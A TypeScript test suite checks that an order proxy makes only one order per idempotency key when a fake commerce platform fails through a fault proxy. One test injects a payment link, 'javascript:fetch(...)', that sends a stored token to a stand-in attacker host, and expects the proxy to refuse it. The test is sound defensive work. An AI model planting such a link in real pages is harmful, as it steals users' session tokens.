import { describe, expect, it } from "vitest";
import { createdOrderSchema, problemSchema } from "../../src/core";
import { createApp } from "../../src/server/app";
import { adapter as sellsteinAdapter } from "../../src/server/platforms/sellstein";
import { createCapturingLogger, newKey, postJson } from "../factories/sandbox-app";
import { type FakeSellstein, startFakeSellstein } from "../platforms/sellstein/fake-server";
import { closedAfterEach } from "../support/closed-after-each";
import { type FaultAction, type FaultProxy, startFaultProxy } from "../support/fault-proxy";

/*
 * Creating an order when the platform fails in the ways real ones do, through a real fault proxy
 * between the Kiosk proxy and a fake SellStein. Each case counts the orders the platform holds:
 * never more than one per idempotency key, whatever the buyer retries.
 */

const secretKey = "sk_test_k1osKf4keS3llSt31nKey";
const businessId = "biz_abc123";
const createRoute = { method: "POST", path: /\/orders$/ };

/** The create's answer with a total that fits no schema: the proxy reads its id alone. */
const unreadableTotal: FaultAction = {
  kind: "rewrite",
  rewrite: (answer) => {
    const { total: _total, ...rest } = JSON.parse(answer.body) as Record<string, unknown>;
    return { ...answer, body: JSON.stringify({ ...rest, total: "a lot" }) };
  },
};

interface Scenario {
  readonly fake: FakeSellstein;
  readonly proxy: FaultProxy;
  readonly logger: ReturnType<typeof createCapturingLogger>;
  readonly app: ReturnType<typeof createApp>;
  /** Orders the platform holds that the proxy made. */
  upstreamOrders(): string[];
  order(key: string): Promise<{ response: Response; body: unknown }>;
  logged(level: "info" | "warn" | "error", event: string): Record<string, unknown>[];
}

const running = closedAfterEach();

async function start(options: { checkoutUrls?: boolean; template?: string } = {}) {
  const fake = await startFakeSellstein({
    secretKey,
    businessId,
    ...(options.checkoutUrls ? { checkoutUrls: true } : {}),
  });
  running.push(fake);
  const proxy = await startFaultProxy(fake.baseUrl);
  running.push(proxy);
  const seeded = new Set(fake.orders.keys());
  const logger = createCapturingLogger();
  const platform = sellsteinAdapter.create({
    secretKey,
    storeId: businessId,
    apiBase: proxy.url,
    logger,
    // A hanging platform is given up on quickly; the same setting a deployment tunes. The
    // backoff between retries is the upstream client's own tests' business: no waits here.
    upstream: { timeoutMs: 1500, backoffMs: 1, backoffLimitMs: 1 },
  });
  const app = createApp({
    platform,
    logger,
    // Retries ask the platform at once, as they may once a create's time in flight has passed
    // (the wait itself: order-faults-in-flight.test.ts).
    idempotency: { inFlightMs: 0 },
    ...(options.template ? { checkoutUrlTemplate: options.template } : {}),
  });
  const body = {
    items: [{ productId: "prod_xK9mZq2", quantity: 1 }],
    email: "buyer@example.com",
  };
  const scenario: Scenario = {
    fake,
    proxy,
    logger,
    app,
    upstreamOrders: () => [...fake.orders.keys()].filter((id) => !seeded.has(id)),
    async order(key) {
      const response = await app.request("/api/orders", postJson(body, key));
      return { response, body: await response.json() };
    },
    logged(level, event) {
      return logger.lines
        .map((line) => JSON.parse(line) as Record<string, unknown>)
        .filter((line) => line.level === level && line.event === event);
    },
  };
  return scenario;
}

describe("one order per purchase, whatever the platform does (SellStein through a fault proxy)", () => {
  it("answers 201 with a payment hint when the platform gives no payment link, and replays it", async () => {
    const scenario = await start();
    const key = newKey();
    const first = await scenario.order(key);
    expect(first.response.status).toBe(201);
    expect(first.response.headers.get("retry-after")).toBeNull();
    const created = createdOrderSchema.parse(first.body);
    expect(created.checkoutUrl).toBeUndefined();
    expect(created.payment).toBe("email");

    const again = await scenario.order(key);
    expect(again.response.status).toBe(201);
    expect(createdOrderSchema.parse(again.body).id).toBe(created.id);
    expect(scenario.upstreamOrders()).toEqual([created.id]);
    expect(scenario.proxy.forwarded(createRoute)).toBe(1);
    expect(scenario.logged("info", "upstream_order_created")).toMatchObject([
      { orderId: created.id },
    ]);
  });

  it("sends the buyer to the merchant's KIOSK_CHECKOUT_URL when the platform gives no link", async () => {
    const scenario = await start({
      template: "https://shop.example/pay/{orderId}?n={orderNumber}",
    });
    const first = await scenario.order(newKey());
    expect(first.response.status).toBe(201);
    const created = createdOrderSchema.parse(first.body);
    const [upstreamId] = scenario.upstreamOrders();
    expect(created.id).toBe(upstreamId);
    const number = scenario.fake.orders.get(created.id)?.order_number;
    expect(created.checkoutUrl).toBe(`https://shop.example/pay/${created.id}?n=${number}`);
    expect(created.payment).toBeUndefined();
  });

  it("refuses a javascript: payment link with 502, logs the order, and never makes a second", async () => {
    const scenario = await start({ checkoutUrls: true });
    scenario.proxy.inject({
      ...createRoute,
      action: {
        kind: "rewrite",
        rewrite: (answer) => ({
          ...answer,
          body: JSON.stringify({
            ...JSON.parse(answer.body),
            checkout_url: "javascript:fetch('//evil.example/'+localStorage.token)",
          }),
        }),
      },
    });
    const key = newKey();
    for (let attempt = 0; attempt < 2; attempt++) {
      const answer = await scenario.order(key);
      expect(answer.response.status).toBe(502);
      expect(answer.response.headers.get("retry-after")).toBeNull();
      expect(problemSchema.parse(answer.body).type).toBe("upstream_unavailable");
      expect(JSON.stringify(answer.body)).not.toContain("javascript");
    }
    const [orderId, ...more] = scenario.upstreamOrders();
    expect(more).toEqual([]);
    expect(scenario.logged("error", "payment_link_refused")).toMatchObject([{ orderId }]);
    expect(scenario.logged("error", "order_abandoned")).toMatchObject([
      { orderId, cancelled: true },
    ]);
    expect(scenario.fake.orders.get(orderId ?? "")?.status).toBe("cancelled");
    expect(scenario.proxy.forwarded(createRoute)).toBe(1);
  });

  it("answers a create whose connection dropped without Retry-After; the retry finds the order instead of making another", async () => {
    const scenario = await start({ checkoutUrls: true });
    scenario.proxy.inject({ ...createRoute, times: 1, action: { kind: "drop-after-upstream" } });
    const key = newKey();
    const first = await scenario.order(key);
    expect(first.response.status).toBe(502);
    expect(first.response.headers.get("retry-after")).toBeNull();
    expect(problemSchema.parse(first.body).detail).toMatch(/may have been placed/);
    expect(scenario.logged("error", "order_outcome_unknown")).toHaveLength(1);
    const [orderId, ...more] = scenario.upstreamOrders();
    expect(more).toEqual([]);

    const retry = await scenario.order(key);
    expect(retry.response.status).toBe(201);
    expect(createdOrderSchema.parse(retry.body)).toMatchObject({
      id: orderId,
      checkoutUrl: `https://pay.sellstein.com/${orderId}`,
    });
    expect(scenario.upstreamOrders()).toEqual([orderId]);
    expect(scenario.proxy.seen(createRoute)).toBe(1);
    expect(scenario.logged("info", "upstream_order_created")).toMatchObject([
      { orderId, answer: "found" },
    ]);
    // Settled now: the same key replays without asking the platform again.
    const listsBefore = scenario.proxy.seen({ method: "GET", path: /\/orders\?/ });
    expect((await scenario.order(key)).response.status).toBe(201);
    expect(scenario.proxy.seen({ method: "GET", path: /\/orders\?/ })).toBe(listsBefore);
  });

  it("reads every page of the buyer's orders before it concludes a dropped create made nothing", async () => {
    const scenario = await start();
    scenario.proxy.inject({ ...createRoute, times: 1, action: { kind: "drop-after-upstream" } });
    const key = newKey();
    expect((await scenario.order(key)).response.status).toBe(502);
    const [orderId] = scenario.upstreamOrders();
    // The buyer's other orders since (another product), newest first: a full first page without it.
    const other = scenario.fake.products.find((product) => product.id !== "prod_xK9mZq2");
    for (let n = 1; n <= 100; n += 1) {
      const id = `ord_later${n}`;
      scenario.fake.orders.set(id, {
        id,
        order_number: 5000 + n,
        status: "pending",
        customer_email: "buyer@example.com",
        total: 1,
        currency: "USD",
        payment_provider: "stripe",
        items: [{ product_id: other?.id ?? "", product_name: "Other", quantity: 1, unit_price: 1 }],
        created_at: new Date(Date.now() + n).toISOString(),
      });
    }
    const retry = await scenario.order(key);
    expect(retry.response.status).toBe(201);
    expect(createdOrderSchema.parse(retry.body).id).toBe(orderId);
    expect(scenario.proxy.seen(createRoute)).toBe(1);
  });

  it("never hands one attempt the order another attempt was given, nor takes that buyer's token", async () => {
    const scenario = await start();
    // The buyer's first purchase, answered.
    const first = createdOrderSchema.parse((await scenario.order(newKey())).body);
    // The same purchase again moments later, with its own key, whose create is dropped.
    scenario.proxy.inject({ ...createRoute, times: 1, action: { kind: "drop-after-upstream" } });
    const key = newKey();
    expect((await scenario.order(key)).response.status).toBe(502);
    const retry = await scenario.order(key);
    // Both orders match the lookup (same buyer, same lines, within its clock skew): the one
    // dated after this attempt's call is its own, the first belongs to another attempt.
    expect(retry.response.status).toBe(201);
    const own = createdOrderSchema.parse(retry.body);
    expect(own.id).not.toBe(first.id);
    const read = await scenario.app.request(`/api/orders/${first.id}`, {
      headers: { authorization: `Bearer ${first.token}` },
    });
    expect(read.status).toBe(200);
    expect(scenario.upstreamOrders().sort()).toEqual([first.id, own.id].sort());
  });

  it("never hands a retry's lookup the order another attempt is still answering with", async () => {
    const scenario = await start({ checkoutUrls: true });
    // The first attempt's create fails before the platform makes anything: its outcome is unknown.
    scenario.proxy.inject({ ...createRoute, times: 1, action: { kind: "status", status: 500 } });
    // The same purchase under another key is made, but its answer shows only the id, so the
    // proxy reads the order before answering; that read is held.
    scenario.proxy.inject({
      ...createRoute,
      times: 1,
      action: unreadableTotal,
    });
    let release = () => {};
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    scenario.proxy.inject({
      method: "GET",
      path: /\/orders\/[^/?]+$/,
      times: 1,
      action: { kind: "hold", until: held },
    });
    const first = newKey();
    expect((await scenario.order(first)).response.status).toBe(502);
    const answering = scenario.order(newKey());
    await expect
      .poll(() => scenario.proxy.seen({ method: "GET", path: /\/orders\/[^/?]+$/ }))
      .toBe(1);
    // The first attempt's retry finds the order the second is answering with: not its own.
    const retry = await scenario.order(first);
    release();
    const other = await answering;
    expect(other.response.status).toBe(201);
    const { id, token } = createdOrderSchema.parse(other.body);
    expect(retry.response.status).toBe(502);
    expect(JSON.stringify(retry.body)).not.toContain(id);
    const read = await scenario.app.request(`/api/orders/${id}`, {
      headers: { authorization: `Bearer ${token}` },
    });
    expect(read.status).toBe(200);
    expect(scenario.upstreamOrders()).toEqual([id]);
  });

  it("answers an order made whose read fails for now 503 with Retry-After, and the retry with that order", async () => {
    const scenario = await start({ checkoutUrls: true });
    // The create's answer names the order but shows too little; the read that would complete
    // it fails (each of the client's three tries).
    scenario.proxy.inject({
      ...createRoute,
      times: 1,
      action: unreadableTotal,
    });
    scenario.proxy.inject({
      method: "GET",
      path: /\/orders\/[^/?]+$/,
      times: 3,
      action: { kind: "status", status: 503 },
    });
    const key = newKey();
    const first = await scenario.order(key);
    expect(first.response.status).toBe(503);
    expect(first.response.headers.get("retry-after")).toBe("5");
    const [orderId, ...more] = scenario.upstreamOrders();
    expect(more).toEqual([]);
    const retry = await scenario.order(key);
    expect(retry.response.status).toBe(201);
    expect(createdOrderSchema.parse(retry.body).id).toBe(orderId);
    expect(scenario.proxy.seen(createRoute)).toBe(1);
  });

  it("keeps an unknown outcome while the platform cannot be asked, then finds the order", async () => {
    const scenario = await start({ checkoutUrls: true });
    scenario.proxy.inject({ ...createRoute, times: 1, action: { kind: "drop-after-upstream" } });
    scenario.proxy.inject({
      method: "GET",
      path: /\/orders\?/,
      // Every try of the lookup (the client tries a read three times).
      times: 3,
      action: { kind: "status", status: 503 },
    });
    const key = newKey();
    expect((await scenario.order(key)).response.status).toBe(502);
    const asking = await scenario.order(key);
    // The lookup failed, not the order: retrying is safe, so the answer says when.
    expect(asking.response.status).toBe(503);
    expect(asking.response.headers.get("retry-after")).toBe("5");
    const found = await scenario.order(key);
    expect(found.response.status).toBe(201);
    expect(scenario.upstreamOrders()).toEqual([createdOrderSchema.parse(found.body).id]);
    expect(scenario.proxy.seen(createRoute)).toBe(1);
  });

  it("keeps the order when the create's answer does not fit its schema: the id is read first", async () => {
    const scenario = await start({ checkoutUrls: true });
    scenario.proxy.inject({
      ...createRoute,
      times: 1,
      action: unreadableTotal,
    });
    const key = newKey();
    const first = await scenario.order(key);
    expect(first.response.status).toBe(201);
    const [orderId, ...more] = scenario.upstreamOrders();
    expect(more).toEqual([]);
    expect(createdOrderSchema.parse(first.body).id).toBe(orderId);
    expect(scenario.logged("info", "upstream_order_created")).toMatchObject([
      { orderId, answer: "unreadable" },
    ]);
  });

  it.each([
    ["a 500", { kind: "status", status: 500 } as const],
    ["a hanging create", { kind: "hang" } as const],
  ])(
    "treats %s as an unknown outcome: 502 without Retry-After; the retry asks first, then makes exactly one",
    async (_, action) => {
      const scenario = await start({ checkoutUrls: true });
      scenario.proxy.inject({ ...createRoute, times: 1, action });
      const key = newKey();
      const first = await scenario.order(key);
      expect(first.response.status).toBe(502);
      expect(first.response.headers.get("retry-after")).toBeNull();
      expect(scenario.logged("error", "order_outcome_unknown")).toHaveLength(1);
      expect(scenario.upstreamOrders()).toEqual([]);
      scenario.proxy.releaseHanging();

      const retry = await scenario.order(key);
      expect(retry.response.status).toBe(201);
      expect(scenario.upstreamOrders()).toEqual([createdOrderSchema.parse(retry.body).id]);
      expect(scenario.logged("info", "order_attempt_created_nothing")).toHaveLength(1);
      expect(scenario.proxy.seen(createRoute)).toBe(2);
    },
  );

  it("clears the key after a 4xx on create: nothing was made, so the retry creates the one order", async () => {
    const scenario = await start({ checkoutUrls: true });
    scenario.proxy.inject({
      ...createRoute,
      times: 1,
      action: {
        kind: "status",
        status: 400,
        body: { error: { code: "VALIDATION_ERROR", message: "no", status: 400, details: [] } },
      },
    });
    const key = newKey();
    // Refused for no reason it names: the platform's doing, not a field the buyer could fix.
    const refused = await scenario.order(key);
    expect(refused.response.status).toBe(502);
    expect(refused.response.headers.get("retry-after")).toBeNull();
    const second = await scenario.order(key);
    expect(second.response.status).toBe(201);
    expect(scenario.upstreamOrders()).toEqual([createdOrderSchema.parse(second.body).id]);
  });
});
